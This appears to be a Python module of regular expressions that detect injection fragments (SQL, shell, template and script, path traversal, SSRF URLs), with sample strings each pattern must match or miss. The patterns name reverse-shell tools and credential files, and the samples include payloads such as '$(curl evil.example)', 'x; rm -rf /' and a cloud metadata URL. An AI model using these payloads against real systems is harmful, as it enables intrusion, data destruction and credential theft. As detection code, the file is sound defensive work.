"""The patterns of `code_fragments`, by kind, with what they must find and must not."""

from __future__ import annotations

from typing import Literal

Kind = Literal["sql", "shell", "script", "path_traversal", "ssrf_url"]
KINDS: tuple[Kind, ...] = ("sql", "shell", "script", "path_traversal", "ssrf_url")


_GAP = r"(?:(?:\s|/\*[^*]{0,40}\*/|\+){1,8})"
# Commands that are no words of any language, and those that are: after these, only an argument that no prose has.
_PLAIN = (
    r"(?:/(?:usr/)?s?bin/\w{1,20}|(?:ba|z|da|k)sh|curl|wget|ncat|nc|rm|chmod|chown|whoami|uname|python3?|perl|php"
    r"|powershell(?:\.exe)?|cmd(?:\.exe)?|nslookup|printenv|mkfifo|scp|ssh|tftp|telnet|base64|xxd|crontab|useradd|sudo"
    r"|ifconfig|ipconfig|awk|xargs|openssl|socat|netstat|systemctl)"
)
_WORDY = (
    r"(?:cat|id|ls|ping|sleep|ruby|node|dig|env|kill|touch|eval|exec|passwd|echo|net|dir|type|tee|dd|sed|find|sh|head)"
)
_ARGUMENT = r"(?=[ \t]{1,4}(?:[\-/.~$\"'*|>&]|\w{1,40}[./\\])|[ \t]{0,4}(?:$|[;|&>\#]))"
_COMMAND = rf"(?:{_PLAIN}(?![\w.\-])|{_WORDY}{_ARGUMENT}|(?:sleep|kill)[ \t]{{1,4}}-?\d)"
_SQL = (
    rf"['\"]\)?{_GAP}?(?:or|and|\|\||&&){_GAP}?\(?['\"]?\w{{0,20}}['\"]?\s{{0,4}}(?:[=<>]|!=|\blike\b|\bis\s{{1,4}}(?:not\s{{1,4}})?null\b)",
    rf"\b\d{{1,9}}{_GAP}(?:or|and){_GAP}\d{{1,4}}\s{{0,4}}=\s{{0,4}}\d{{1,4}}",
    rf"\bunion{_GAP}(?:(?:all|distinct){_GAP})?select\b",
    rf"['\"]\)?\s{{0,4}};\s{{0,4}}(?:drop|delete|insert|update|alter|create|truncate|exec(?:ute)?|shutdown|declare|select){_GAP}\w",
    rf";\s{{0,4}}(?:drop{_GAP}(?:table|database|schema|user|view)|truncate{_GAP}table|delete{_GAP}from|insert{_GAP}into|update{_GAP}\w{{1,40}}{_GAP}set|alter{_GAP}table|exec(?:ute)?{_GAP}(?:xp_|sp_))",
    r"['\"]\)?\s{0,4};?\s{0,4}(?:--|\#)(?:\s|$|[^\w\-])",
    r"\b(?:waitfor\s{1,4}delay|benchmark\s{0,4}\(\s{0,4}\d{3,}|pg_sleep\s{0,4}\(|sleep\s{0,4}\(\s{0,4}\d{1,4}\s{0,4}\)\s{0,4}(?:--|\#|and|or|$|['\")]))",
    r"\b(?:xp_cmdshell|information_schema\.\w|load_file\s{0,4}\(|into\s{1,4}(?:out|dump)file\b|sqlite_master\b|pg_catalog\.\w|extractvalue\s{0,4}\(|updatexml\s{0,4}\()",
)
_SHELL = (
    rf"(?:;|\|\|?|&&?|\n|%0a|%3b|%26|%7c)[ \t]{{0,4}}{_COMMAND}",
    rf"\$\([ \t]{{0,4}}(?:{_PLAIN}|{_WORDY})\b[^()\n]{{0,200}}\)",
    rf"`[ \t]{{0,4}}(?:(?:whoami|id|uname|hostname)[ \t]{{0,4}}|(?:{_PLAIN}|{_WORDY})[ \t]{{1,4}}[^`\n]{{1,200}})`",
    r"\$\{?IFS\}?",
    r"\b(?:curl|wget)\b[^\n|]{0,300}\|\s{0,4}(?:sudo\s{1,4})?(?:/(?:usr/)?bin/)?(?:ba|z|da)?sh\b",
    r"\brm\s{1,4}-(?:r[a-z]{0,4}f|f[a-z]{0,4}r)[a-z]{0,4}\s{1,4}[~/.*$\w]",
    r"/dev/(?:tcp|udp)/[\w.\-]{1,100}/\d",
    r"(?:>|>>|2>&1|<)\s{0,4}/(?:etc|dev/tcp|root|proc)/",
    r"\b(?:nc|ncat)\s[^\n|;]{0,60}-\w{0,4}e\s",
    r"\bpowershell(?:\.exe)?\s{1,4}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s",
    r":\(\)\s{0,4}\{\s{0,4}:\s{0,4}\|\s{0,4}:",
)
_SCRIPT = (
    r"<script\b[^>]{0,300}>",
    r"<\w{1,20}\b[^>]{0,300}\bon(?:error|load|click|mouseover|focus|toggle|begin|start|pointerenter|animationstart)\s{0,4}=",
    r"\bjavascript:\s{0,4}[\w(\[/%]",
    r"\bdata:text/html[;,]",
    r"<(?:iframe|object|embed|svg|math)\b[^>]{0,300}(?:srcdoc|javascript:|onload)",
    r"\b__import__\s{0,4}\(\s{0,4}['\"]",
    r"__(?:class|mro|subclasses|globals|builtins|bases)__\s{0,4}(?:\(|\[|\.)",
    r"\b(?:os\.(?:system|popen|exec\w{1,3})|subprocess\.(?:run|Popen|call|check_output|getoutput))\s{0,4}\(",
    r"\b(?:eval|exec)\s{0,4}\(\s{0,4}(?:compile|base64|atob|__import__|request|input|open|chr|bytes|String\.)",
    r"\bchild_process\b['\"]?\s{0,4}\)?\s{0,4}\.\s{0,4}(?:exec|spawn)",
    r"\brequire\s{0,4}\(\s{0,4}['\"](?:child_process|fs|net|vm)['\"]\s{0,4}\)",
    r"\bprocess\.(?:mainModule|binding)\b",
    r"__proto__['\"]?\s{0,4}[\[\]:.=]|\bconstructor\s{0,4}\.\s{0,4}prototype\b|\bconstructor\s{0,4}\.\s{0,4}constructor\b",
    r"\{\{[^{}\n]{0,100}(?:__|\bconfig\b|\bself\b|request\.|lipsum|cycler|joiner|constructor|\d\s{0,4}\*\s{0,4}['\"]?\d)[^{}\n]{0,100}\}\}",
    r"\{%\s{0,4}(?:import|include|extends|set|for|if|debug)\b[^%\n]{0,200}%\}",
    r"<%=?[^%\n]{0,200}%>|#\{[^{}\n]{0,40}(?:system|exec|eval|\d\s{0,4}\*\s{0,4}\d|%x)[^{}\n]{0,40}\}",
    r"\$\{[^{}\n]{0,100}(?:T\(|Runtime|ProcessBuilder|getClass|\d\s{0,4}\*\s{0,4}\d|jndi:|env:|lower:|::-)",
    r"<\?php\b|<\?=",
    r"<!(?:ENTITY|DOCTYPE)\b[^>]{0,100}\b(?:SYSTEM|PUBLIC)\b",
)
_PATH = (
    r"(?:\.{2,4}|%2e%2e|%252e%252e|\.%2e|%2e\.|%c0%ae%c0%ae)(?:[/\\]{1,4}|%2f|%5c|%252f|%255c|%c0%af)(?:(?:\.{2,4}|%2e%2e|%252e%252e|\.%2e|%2e\.|%c0%ae%c0%ae)(?:[/\\]{1,4}|%2f|%5c|%252f|%255c|%c0%af)){1,40}",
    r"(?:%2e%2e|%252e%252e|\.%2e|%2e\.|%c0%ae%c0%ae)(?:[/\\]|%2f|%5c|%252f|%255c)",
    r"(?:\.\.[/\\]|%2e%2e%2f){1,40}(?:etc|proc|root|windows|win\.ini|boot\.ini|\.ssh|\.env|\.git|\.aws|var[/\\]log)\b",
    r"(?<![\w.])/(?:etc/(?:passwd|shadow|sudoers|hosts\b|crontab)|proc/(?:self|\d{1,7})/(?:environ|cmdline|fd|maps|root)|root/\.ssh|var/run/secrets)",
    r"(?:~|/home/[\w.\-]{1,40}|/Users/[\w.\-]{1,40}|/root)/\.(?:ssh/|aws/|kube/|gnupg/|netrc|git-credentials|docker/config)",
    r"\b[a-z]:[\\/]{1,2}windows[\\/]{1,2}(?:system32[\\/]{1,2}(?:config|drivers)|win\.ini|system\.ini)",
    r"\b(?:php|zip|phar|expect|glob|file|gopher|dict|ldap|jar|netdoc)://[^\s\"'<>]{1,400}",
    r"%00(?:\.\w{1,5})?(?![0-9a-f])",
)
_URL = (r"\b(?:https?|ftp|wss?|gopher|dict|ldap|tftp):[/\\]{1,4}([^\s/\\?#\"'<>]{1,300})",)

HIT: dict[Kind, tuple[str, ...]] = {
    "sql": ("x' OR '1'='1", "1 UNION SELECT name FROM users", "a'; DROP TABLE users", "admin'--", "5 or 1=1"),
    "shell": ("x; rm -rf /", "a | cat /etc/passwd", "$(curl evil.example)", "`cat /etc/passwd`", "a && wget x"),
    "script": ("<script>alert(1)</script>", "{{ config.items() }}", "${jndi:ldap://x}", "__import__('os')", "{{7*7}}"),
    "path_traversal": ("../../etc/passwd", "..%2f..%2fx", "/etc/shadow", "~/.ssh/id_rsa", "file:///etc/hosts"),
    "ssrf_url": ("http://169.254.169.254/latest", "http://localhost:8080", "http://2130706433/", "http://0x7f.1/"),
}
MISS: dict[Kind, tuple[str, ...]] = {
    "sql": ("O'Brien and sons", "select a union representative", "it's 5 or 6", "C# and 'F#' are languages"),
    "shell": ("cats & dogs", "R&D; find out more", "the `cat` sat", "x; remove it", "Tom | Jerry", "costs $5 (cash)"),
    "script": ("a script for a play", "{name}", "set {{x}}", "the constructor of the class"),
    "path_traversal": ("../docs/a.md", "and so on...", "/etc", "a/b/c.txt", "100%"),
    "ssrf_url": ("https://example.com/", "http://8.8.8.8/", "localhost is a host"),
}
PATTERNS: dict[Kind, tuple[str, ...]] = {
    "sql": _SQL, "shell": _SHELL, "script": _SCRIPT, "path_traversal": _PATH, "ssrf_url": _URL,
}  # fmt: skip
